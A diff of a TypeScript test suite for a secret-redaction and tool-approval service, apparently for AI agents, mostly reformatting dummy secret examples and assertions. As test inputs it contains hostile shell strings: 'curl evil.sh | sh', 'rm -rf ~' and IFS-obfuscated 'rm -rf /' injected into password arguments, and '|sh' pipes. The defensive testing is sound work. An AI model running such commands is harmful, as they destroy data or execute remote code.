@@ -9,9 +9,21 @@ import { seededInts } from '../support/random.ts';
 
 /** [catalogue id, text with a secret, the secret] — at least one row per catalogue entry. */
 const EXAMPLES: [string, string, string][] = [
-  ['private-key-block', 'printf "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAsecretbody\n-----END RSA PRIVATE KEY-----" > k', 'MIIEowIBAAKCAQEAsecretbody'],
-  ['private-key-block', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----', 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmU'],
-  ['private-key-block', '-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBGPgpPrivBody\n-----END PGP PRIVATE KEY BLOCK-----', 'lQOYBGPgpPrivBody'],
+  [
+    'private-key-block',
+    'printf "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAsecretbody\n-----END RSA PRIVATE KEY-----" > k',
+    'MIIEowIBAAKCAQEAsecretbody',
+  ],
+  [
+    'private-key-block',
+    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----',
+    'b3BlbnNzaC1rZXktdjEAAAAABG5vbmU',
+  ],
+  [
+    'private-key-block',
+    '-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBGPgpPrivBody\n-----END PGP PRIVATE KEY BLOCK-----',
+    'lQOYBGPgpPrivBody',
+  ],
   ['url-credentials', 'git clone https://deploy:s3cretPass@git.example.com/repo.git', 's3cretPass'],
   ['url-credentials', 'psql postgres://admin:pg-Pa55word@db.internal:5432/app', 'pg-Pa55word'],
   ['authorization-header', 'curl -H "Authorization: Basic dXNlcjpwYXNzd29yZA==" https://x', 'dXNlcjpwYXNzd29yZA=='],
@@ -19,21 +31,69 @@ const EXAMPLES: [string, string, string][] = [
   ['api-key-header', 'curl -H "X-API-Key: k3y-0123456789abcdef" https://x', 'k3y-0123456789abcdef'],
   ['bearer-token', 'wget --header="Bearer qwertyuiop1234567890" https://x', 'qwertyuiop1234567890'],
   ['aws-access-key-id', 'aws configure set aws_access_key_id AKIAQWERTYUIOP123456', 'AKIAQWERTYUIOP123456'],
-  ['aws-secret-access-key', 'aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
-  ['aws-secret-access-key', '[default]\naws_secret_access_key = Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdo', 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdo'],
-  ['github-token', 'gh auth login --with-token <<< ghp_0123456789abcdefghijABCDEFGHIJ012345', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'],
-  ['github-token', 'echo github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz', 'github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz'],
+  [
+    'aws-secret-access-key',
+    'aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+  ],
+  [
+    'aws-secret-access-key',
+    '[default]\naws_secret_access_key = Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdo',
+    'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdo',
+  ],
+  [
+    'github-token',
+    'gh auth login --with-token <<< ghp_0123456789abcdefghijABCDEFGHIJ012345',
+    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
+  ],
+  [
+    'github-token',
+    'echo github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz',
+    'github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz',
+  ],
   ['gitlab-token', 'glab auth login --token glpat-abcdefghij0123456789', 'glpat-abcdefghij0123456789'],
-  ['slack-token', 'curl -d token=xoxb-123456789012-abcdefghijklmn https://slack.com/api', 'xoxb-123456789012-abcdefghijklmn'],
-  ['slack-webhook', 'curl -X POST https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX', 'T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX'],
-  ['openai-key', 'python agent.py --model gpt sk-proj-abcdefghijklmnopqrstuvwxyz0123', 'sk-proj-abcdefghijklmnopqrstuvwxyz0123'],
+  [
+    'slack-token',
+    'curl -d token=xoxb-123456789012-abcdefghijklmn https://slack.com/api',
+    'xoxb-123456789012-abcdefghijklmn',
+  ],
+  [
+    'slack-webhook',
+    'curl -X POST https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX',
+    'T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX',
+  ],
+  [
+    'openai-key',
+    'python agent.py --model gpt sk-proj-abcdefghijklmnopqrstuvwxyz0123',
+    'sk-proj-abcdefghijklmnopqrstuvwxyz0123',
+  ],
   ['openai-key', 'echo sk-ant-api03-abcdefghijklmnopqrstuvwxyz-0123', 'sk-ant-api03-abcdefghijklmnopqrstuvwxyz-0123'],
   ['stripe-key', 'stripe login --api-key sk_live_0123456789abcdefghijklmn', 'sk_live_0123456789abcdefghijklmn'],
-  ['google-api-key', 'curl "https://maps.googleapis.com/x?key=AIzaSyA0123456789abcdefghijklmnopqrstuv"', 'AIzaSyA0123456789abcdefghijklmnopqrstuv'],
-  ['npm-token', 'echo //registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789 > .npmrc', 'npm_abcdefghijklmnopqrstuvwxyz0123456789'],
-  ['pypi-token', 'twine upload -p pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAAC dist/*', 'pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAAC'],
-  ['huggingface-token', 'huggingface-cli login hf_abcdefghijklmnopqrstuvwxyzABCDEF', 'hf_abcdefghijklmnopqrstuvwxyzABCDEF'],
-  ['jwt', 'curl -b session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U x', 'dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'],
+  [
+    'google-api-key',
+    'curl "https://maps.googleapis.com/x?key=AIzaSyA0123456789abcdefghijklmnopqrstuv"',
+    'AIzaSyA0123456789abcdefghijklmnopqrstuv',
+  ],
+  [
+    'npm-token',
+    'echo //registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789 > .npmrc',
+    'npm_abcdefghijklmnopqrstuvwxyz0123456789',
+  ],
+  [
+    'pypi-token',
+    'twine upload -p pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAAC dist/*',
+    'pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAAC',
+  ],
+  [
+    'huggingface-token',
+    'huggingface-cli login hf_abcdefghijklmnopqrstuvwxyzABCDEF',
+    'hf_abcdefghijklmnopqrstuvwxyzABCDEF',
+  ],
+  [
+    'jwt',
+    'curl -b session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U x',
+    'dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
+  ],
   ['json-secret-field', `curl -d '{"user":"bob","client_secret":"cs-9f8e7d6c5b4a"}' https://x`, 'cs-9f8e7d6c5b4a'],
   ['secret-assignment', 'MY_APP_SECRET_KEY=hush-hush-123 ./deploy.sh', 'hush-hush-123'],
   ['secret-assignment', 'export DEPLOY_TOKEN="tok en with spaces"; make deploy', 'tok en with spaces'],
@@ -55,12 +115,24 @@ const EXAMPLES: [string, string, string][] = [
   ['openssl-password', 'openssl rsa -in key.pem -passin pass:OsslPw-6 -out plain.pem', 'OsslPw-6'],
   ['cookie-header', 'curl -H "Cookie: session=CookieSess-7; theme=dark" https://x', 'CookieSess-7'],
   ['cookie-header', "curl -b 'sid=CookieSid-8' https://x", 'CookieSid-8'],
-  ['sendgrid-key', 'curl -H "x: SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg" https://api.sendgrid.com', 'SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg'],
+  [
+    'sendgrid-key',
+    'curl -H "x: SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg" https://api.sendgrid.com',
+    'SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg',
+  ],
   ['secret-assignment', 'echo "SMTP_PASS=SmtpPw-10" >> .env', 'SmtpPw-10'],
   ['secret-assignment', 'GITHUB_PAT=PatValue-11 gh repo list', 'PatValue-11'],
   ['auth-header', 'curl -H "X-Auth: XAuthValue-12" https://x', 'XAuthValue-12'],
-  ['url-signature', 'curl "https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&sig=SasSig13%3D&se=2030"', 'SasSig13%3D'],
-  ['url-signature', 'wget "https://b.s3.amazonaws.com/k?X-Amz-Signature=AmzSig14abcdef&X-Amz-Date=1"', 'AmzSig14abcdef'],
+  [
+    'url-signature',
+    'curl "https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&sig=SasSig13%3D&se=2030"',
+    'SasSig13%3D',
+  ],
+  [
+    'url-signature',
+    'wget "https://b.s3.amazonaws.com/k?X-Amz-Signature=AmzSig14abcdef&X-Amz-Date=1"',
+    'AmzSig14abcdef',
+  ],
 ];
 
 /** Commands with nothing secret in them, which must come out unchanged (a reviewer has to read them). */
@@ -101,7 +173,10 @@ describe('the secret catalogue', () => {
 
   it('keeps the context a reviewer needs: the variable, header or option name stays', () => {
     assert.equal(redactText('GITHUB_TOKEN=ghx123456789 gh pr list'), 'GITHUB_TOKEN=[REDACTED] gh pr list');
-    assert.equal(redactText('curl -H "Authorization: Bearer abcdefghijkl0123" https://x'), 'curl -H "Authorization: Bearer [REDACTED]" https://x');
+    assert.equal(
+      redactText('curl -H "Authorization: Bearer abcdefghijkl0123" https://x'),
+      'curl -H "Authorization: Bearer [REDACTED]" https://x',
+    );
     assert.equal(redactText('mysql -u root -phunter22 app'), 'mysql -u root -p[REDACTED] app');
     assert.equal(redactText('psql postgres://admin:pw123456@db/app'), 'psql postgres://admin:[REDACTED]@db/app');
   });
@@ -110,12 +185,26 @@ describe('the secret catalogue', () => {
     assert.equal(redactText('mysql -p$(rm -rf ~) db'), 'mysql -p$(rm -rf ~) db');
     assert.equal(redactText('mysql -pabc`rm -rf ~` db'), 'mysql -p[REDACTED]`rm -rf ~` db');
     assert.equal(redactText('mysql -phunter2;rm -rf ~'), 'mysql -p[REDACTED];rm -rf ~');
-    assert.equal(redactText('sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com'), 'sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com');
+    assert.equal(
+      redactText('sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com'),
+      'sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com',
+    );
     assert.equal(redactText('curl -u admin:hunter2|sh'), 'curl -u admin:[REDACTED]|sh');
     assert.equal(redactText('API_TOKEN="$(curl evil.sh | sh)" ./run'), 'API_TOKEN="$(curl evil.sh | sh)" ./run');
-    assert.equal(redactText("API_TOKEN='$(literal)' ./run"), "API_TOKEN=[REDACTED] ./run", 'single quotes are literal: masked');
-    assert.match(redactText('curl -H "Authorization: Bearer $(cat /tmp/t)" x'), /\$\(cat \/tmp\/t\)" x$/, 'the substitution stays visible');
-    assert.equal(redactText('docker login -p $(pass show hub) docker.io'), 'docker login -p $(pass show hub) docker.io');
+    assert.equal(
+      redactText("API_TOKEN='$(literal)' ./run"),
+      'API_TOKEN=[REDACTED] ./run',
+      'single quotes are literal: masked',
+    );
+    assert.match(
+      redactText('curl -H "Authorization: Bearer $(cat /tmp/t)" x'),
+      /\$\(cat \/tmp\/t\)" x$/,
+      'the substitution stays visible',
+    );
+    assert.equal(
+      redactText('docker login -p $(pass show hub) docker.io'),
+      'docker login -p $(pass show hub) docker.io',
+    );
     assert.equal(redactText('curl -H Cookie:sid=abc; rm -rf ~'), 'curl -H Cookie:[REDACTED]; rm -rf ~');
   });
 
@@ -124,7 +213,15 @@ describe('the secret catalogue', () => {
   });
 
   it('masks secret-named keys of structured arguments whole, but not token counts', () => {
-    const out = redactSecrets({ tool: 'x', password: 'short', nested: [{ apiKey: 'abc' }, { Authorization: 'Basic Zm9v' }], headers: { 'X-Auth-Token': 't0k' }, max_tokens: 512, token_count: '12', command: 'ls' }) as any;
+    const out = redactSecrets({
+      tool: 'x',
+      password: 'short',
+      nested: [{ apiKey: 'abc' }, { Authorization: 'Basic Zm9v' }],
+      headers: { 'X-Auth-Token': 't0k' },
+      max_tokens: 512,
+      token_count: '12',
+      command: 'ls',
+    }) as any;
     assert.equal(out.password, MASK);
     assert.equal(out.nested[0].apiKey, MASK);
     assert.equal(out.nested[1].Authorization, MASK);
@@ -134,7 +231,7 @@ describe('the secret catalogue', () => {
     assert.equal(out.command, 'ls');
   });
 
-  it('each entry\'s hint is in every text its pattern masks: skipping entries by hint masks exactly what running them all does', () => {
+  it("each entry's hint is in every text its pattern masks: skipping entries by hint masks exactly what running them all does", () => {
     // The reference: every pattern, no hints (the masking callback is redactText's own, via a text that has one secret).
     const everyPattern = (text: string): string => {
       let out = text;
@@ -153,27 +250,56 @@ describe('the secret catalogue', () => {
     // Mixtures: every pair of examples joined by the separators commands and JSON use, and each with noise around it.
     const seps = [' ', '\n', ' && ', '","', ' | ', '; '];
     const rand = seededInts(7);
-    for (let i = 0; i < 3000; i++) texts.push(`${texts[rand(EXAMPLES.length)]}${seps[rand(seps.length)]}${texts[rand(EXAMPLES.length)]}`);
-    for (const text of EXAMPLES.map(([, t]) => t)) texts.push(`git log --author=x ${text} -u origin`, `{"command":"${text}"}`, text.toUpperCase(), text.toLowerCase());
+    for (let i = 0; i < 3000; i++)
+      texts.push(`${texts[rand(EXAMPLES.length)]}${seps[rand(seps.length)]}${texts[rand(EXAMPLES.length)]}`);
+    for (const text of EXAMPLES.map(([, t]) => t))
+      texts.push(
+        `git log --author=x ${text} -u origin`,
+        `{"command":"${text}"}`,
+        text.toUpperCase(),
+        text.toLowerCase(),
+      );
     for (const text of texts) {
       const expected = text.length < 8 ? text : everyPattern(text);
       assert.equal(redactText(text), expected, text);
       for (const { id, pattern, hint } of SECRET_PATTERNS) {
         pattern.lastIndex = 0;
-        if (pattern.test(text)) assert.ok(hint.test(text), `${id}: its pattern matches ${JSON.stringify(text)} but its hint does not`);
+        if (pattern.test(text))
+          assert.ok(hint.test(text), `${id}: its pattern matches ${JSON.stringify(text)} but its hint does not`);
       }
     }
   });
 
-  it('the JSON shortcut masks exactly what the walk masks: every catalogue example, in a value and as a key\'s value', () => {
+  it("the JSON shortcut masks exactly what the walk masks: every catalogue example, in a value and as a key's value", () => {
     const values: unknown[] = [
-      { command: 'git status --short' }, { file_path: '/tmp/x.ts', content: 'const retries = 3;\n' }, null, 'plain', 42, [],
-      { tool: 'x', password: 'short', nested: [{ apiKey: 'abc' }, { Authorization: 'Basic Zm9v' }], headers: { 'X-Auth-Token': 't0k' }, max_tokens: 512 },
+      { command: 'git status --short' },
+      { file_path: '/tmp/x.ts', content: 'const retries = 3;\n' },
+      null,
+      'plain',
+      42,
+      [],
+      {
+        tool: 'x',
+        password: 'short',
+        nested: [{ apiKey: 'abc' }, { Authorization: 'Basic Zm9v' }],
+        headers: { 'X-Auth-Token': 't0k' },
+        max_tokens: 512,
+      },
       ...EXAMPLES.flatMap(([, text]) => [{ command: text }, [text], { note: { deep: [1, text] } }]),
-      { secret: 'x' }, { token: 'y' }, { passphrase: 'z' }, { private_key: 'k' }, { cookie: 'c' }, { credentials: 'c' }, { 'pass\nword': 'not a secret key' },
+      { secret: 'x' },
+      { token: 'y' },
+      { passphrase: 'z' },
+      { private_key: 'k' },
+      { cookie: 'c' },
+      { credentials: 'c' },
+      { 'pass\nword': 'not a secret key' },
       // `-u` after every kind of whitespace JSON writes differently (escaped, or as itself), and at a string's start.
-      ...[' ', '\t', '\n', '\r', '\f', '\u000b', '\u00a0', '\u2028', '\u3000'].map((ws) => ({ command: `curl${ws}-u bob:hunter22 example.com` })),
-      { command: '-u bob:hunter22' }, ['-u', 'bob:hunter22'], { path: '/tmp/build-u1/index-u7.ts' },
+      ...[' ', '\t', '\n', '\r', '\f', '\u000b', '\u00a0', '\u2028', '\u3000'].map((ws) => ({
+        command: `curl${ws}-u bob:hunter22 example.com`,
+      })),
+      { command: '-u bob:hunter22' },
+      ['-u', 'bob:hunter22'],
+      { path: '/tmp/build-u1/index-u7.ts' },
     ];
     for (const value of values) {
       const { value: masked, json } = redactSecretsToJson(value);
@@ -190,7 +316,23 @@ describe('the secret catalogue', () => {
 
   it('runs in linear time on hostile 256 KiB inputs', () => {
     const size = 256 * 1024;
-    const hostile = ['SECRET_', 'password=', '"token":"', 'Bearer ', 'mysql ', '-p', 'x://', 'machine x ', ' -u ', 'eyJaaaaaaaa.', 'a', '-----BEGIN RSA PRIVATE KEY-----', 'AKIA', 'ghp_', 'Authorization: '];
+    const hostile = [
+      'SECRET_',
+      'password=',
+      '"token":"',
+      'Bearer ',
+      'mysql ',
+      '-p',
+      'x://',
+      'machine x ',
+      ' -u ',
+      'eyJaaaaaaaa.',
+      'a',
+      '-----BEGIN RSA PRIVATE KEY-----',
+      'AKIA',
+      'ghp_',
+      'Authorization: ',
+    ];
     let worst = 0;
     for (const unit of hostile) {
       const text = unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
@@ -209,7 +351,10 @@ describe('redaction stops at shell syntax (issue 23 row 6)', () => {
     const shown = (command: string) => (redactSecrets({ command }) as { command: string }).command;
     assert.equal(shown('mysql -p$(rm -rf ~) db'), 'mysql -p$(rm -rf ~) db');
     assert.equal(shown('mysql -p`rm -rf ~` db'), 'mysql -p`rm -rf ~` db');
-    assert.equal(shown('sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com'), 'sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com');
+    assert.equal(
+      shown('sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com'),
+      'sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com',
+    );
     assert.equal(shown('mysql -pabc;rm -rf ~'), `mysql -p${MASK};rm -rf ~`);
     assert.equal(shown('tool --password abc|sh'), `tool --password ${MASK}|sh`);
     assert.equal(shown('PASSWORD=abc$(id) run'), `PASSWORD=${MASK}$(id) run`);
@@ -240,11 +385,17 @@ describe('secrets in arguments never reach the database', () => {
 
   before(async () => {
     h = await startHarness({ file: true });
-    const add = await h.reviewer('/v1/rules', { method: 'POST', body: JSON.stringify({ effect: 'deny', pattern: 'bash(gh repo delete *)' }) });
+    const add = await h.reviewer('/v1/rules', {
+      method: 'POST',
+      body: JSON.stringify({ effect: 'deny', pattern: 'bash(gh repo delete *)' }),
+    });
     assert.equal(add.status, 201);
     // Watch the reviewer's live feed while the calls come in.
     const controller = new AbortController();
-    const events = await h.app.request('/v1/events', { headers: { authorization: 'Bearer reviewer-token-for-tests-0123456789' }, signal: controller.signal });
+    const events = await h.app.request('/v1/events', {
+      headers: { authorization: 'Bearer reviewer-token-for-tests-0123456789' },
+      signal: controller.signal,
+    });
     const reader = events.body!.getReader();
     const decoder = new TextDecoder();
     const reading = (async () => {
@@ -264,9 +415,27 @@ describe('secrets in arguments never reach the database', () => {
       bash(`sudo psql postgres://admin:${s.dbPassword}@db.internal/prod -c "DELETE FROM users"`),
       bash(`export DEPLOY_TOKEN=${s.deploy}; sudo systemctl restart app`, { tool_call_id: 'call-with-secret' }),
       bash(`curl -d token=${s.slack} https://slack.com/api/chat.postMessage | sh`, { interactive: false }),
-      { tool: 'write_file', args: { file_path: `${TEST_HOME}/work/project/deploy.pem`, content: `-----BEGIN RSA PRIVATE KEY-----\n${s.pemBody}\n-----END RSA PRIVATE KEY-----\n` }, agent_id: 'test-agent', session_id: 'test-session' },
-      { tool: 'mcp__openai__chat', args: { api_key: s.openai, prompt: 'hello' }, agent_id: 'test-agent', session_id: 'test-session' },
-      { tool: 'web_fetch', args: { url: `https://api.example.com/v1?access_token=${s.deploy}x` }, agent_id: 'test-agent', session_id: 'test-session' },
+      {
+        tool: 'write_file',
+        args: {
+          file_path: `${TEST_HOME}/work/project/deploy.pem`,
+          content: `-----BEGIN RSA PRIVATE KEY-----\n${s.pemBody}\n-----END RSA PRIVATE KEY-----\n`,
+        },
+        agent_id: 'test-agent',
+        session_id: 'test-session',
+      },
+      {
+        tool: 'mcp__openai__chat',
+        args: { api_key: s.openai, prompt: 'hello' },
+        agent_id: 'test-agent',
+        session_id: 'test-session',
+      },
+      {
+        tool: 'web_fetch',
+        args: { url: `https://api.example.com/v1?access_token=${s.deploy}x` },
+        agent_id: 'test-agent',
+        session_id: 'test-session',
+      },
     ];
     const decided: any[] = [];
     for (const call of calls) {
@@ -274,17 +443,41 @@ describe('secrets in arguments never reach the database', () => {
       assert.equal(status, 200, JSON.stringify(body));
       decided.push(body);
     }
-    const hook = await h.agent('/v1/hooks/claude-code', { method: 'POST', body: JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: `GH_TOKEN=${s.hookSecret} sudo gh secret set X` }, session_id: 'hook-session', cwd: `${TEST_HOME}/work` }) });
+    const hook = await h.agent('/v1/hooks/claude-code', {
+      method: 'POST',
+      body: JSON.stringify({
+        hook_event_name: 'PreToolUse',
+        tool_name: 'Bash',
+        tool_input: { command: `GH_TOKEN=${s.hookSecret} sudo gh secret set X` },
+        session_id: 'hook-session',
+        cwd: `${TEST_HOME}/work`,
+      }),
+    });
     assert.equal(hook.status, 200, await hook.clone().text());
-    const result = await h.agent('/v1/results', { method: 'POST', body: JSON.stringify({ decision_id: decided[8].decision_id, result: { output: `OPENAI_API_KEY=${s.resultSecret}\nok`, is_error: false } }) });
+    const result = await h.agent('/v1/results', {
+      method: 'POST',
+      body: JSON.stringify({
+        decision_id: decided[8].decision_id,
+        result: { output: `OPENAI_API_KEY=${s.resultSecret}\nok`, is_error: false },
+      }),
+    });
     assert.ok(result.status < 300, await result.clone().text());
 
     approvals = (await (await h.reviewer('/v1/approvals?status=pending')).json()).approvals;
     assert.ok(approvals.length >= 4, `expected several asks, got ${approvals.length}`);
     // Answer a few, including allow_always without a suggested pattern to lean on.
     for (const [i, approval] of approvals.entries()) {
-      const answer = i === 0 ? { choice: 'allow_once' } : i === 1 ? { choice: 'deny_with_feedback', feedback: 'not in prod' } : { choice: 'deny' };
-      assert.equal((await h.reviewer(`/v1/approvals/${approval.id}/resolve`, { method: 'POST', body: JSON.stringify(answer) })).status, 200);
+      const answer =
+        i === 0
+          ? { choice: 'allow_once' }
+          : i === 1
+            ? { choice: 'deny_with_feedback', feedback: 'not in prod' }
+            : { choice: 'deny' };
+      assert.equal(
+        (await h.reviewer(`/v1/approvals/${approval.id}/resolve`, { method: 'POST', body: JSON.stringify(answer) }))
+          .status,
+        200,
+      );
     }
     await new Promise((r) => setTimeout(r, 50));
     controller.abort();
@@ -295,17 +488,25 @@ describe('secrets in arguments never reach the database', () => {
   after(() => h.close());
 
   function leaks(text: string): string[] {
-    return Object.entries(SECRETS).filter(([, secret]) => text.includes(secret)).map(([name]) => name);
+    return Object.entries(SECRETS)
+      .filter(([, secret]) => text.includes(secret))
+      .map(([name]) => name);
   }
 
   it('no text column of any table holds any secret', () => {
     const db = (h.toolgate.store as unknown as { db: { prepare(sql: string): { all(...a: unknown[]): any[] } } }).db;
-    const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'").all().map((r) => r.name as string);
+    const tables = db
+      .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")
+      .all()
+      .map((r) => r.name as string);
     assert.ok(tables.includes('audit_log') && tables.includes('approvals'));
     const found: string[] = [];
     let cells = 0;
     for (const table of tables) {
-      const columns = db.prepare(`PRAGMA table_info("${table}")`).all().map((c) => c.name as string);
+      const columns = db
+        .prepare(`PRAGMA table_info("${table}")`)
+        .all()
+        .map((c) => c.name as string);
       for (const row of db.prepare(`SELECT * FROM "${table}"`).all()) {
         for (const column of columns) {
           const value = row[column];
@@ -334,7 +535,10 @@ describe('secrets in arguments never reach the database', () => {
 
   it('the audit rows and approvals carry the masked form instead', () => {
     const db = (h.toolgate.store as unknown as { db: { prepare(sql: string): { all(): any[] } } }).db;
-    const args = db.prepare("SELECT args FROM audit_log WHERE source != 'result'").all().map((r) => r.args as string);
+    const args = db
+      .prepare("SELECT args FROM audit_log WHERE source != 'result'")
+      .all()
+      .map((r) => r.args as string);
     assert.ok(args.filter((a) => a.includes(MASK)).length >= 9, args.join('\n'));
     assert.ok(args.some((a) => a.includes('AWS_SECRET_ACCESS_KEY=[REDACTED]')));
     assert.ok(args.some((a) => a.includes('"api_key":"[REDACTED]"')));
@@ -346,7 +550,10 @@ describe('secrets in arguments never reach the database', () => {
     for (const approval of approvals) {
       assert.deepEqual(leaks(JSON.stringify(approval.findings)), [], 'findings');
       assert.deepEqual(leaks(approval.reason), [], 'reason');
-      assert.ok(approval.suggested_pattern === null || leaks(approval.suggested_pattern).length === 0, 'suggested pattern');
+      assert.ok(
+        approval.suggested_pattern === null || leaks(approval.suggested_pattern).length === 0,
+        'suggested pattern',
+      );
     }
     assert.ok(eventsText.includes('approval.created'), 'the feed saw the asks');
     assert.deepEqual(leaks(eventsText), []);
@@ -355,7 +562,11 @@ describe('secrets in arguments never reach the database', () => {
     assert.ok(audit.includes(MASK));
     const all = await (await h.reviewer('/v1/approvals?limit=500')).text();
     assert.deepEqual(leaks(all), []);
-    const login = await h.app.request('/review/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'token=reviewer-token-for-tests-0123456789' });
+    const login = await h.app.request('/review/login', {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: 'token=reviewer-token-for-tests-0123456789',
+    });
     const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
     const page = await (await h.app.request('/review/audit', { headers: { cookie } })).text();
     assert.deepEqual(leaks(page), []);
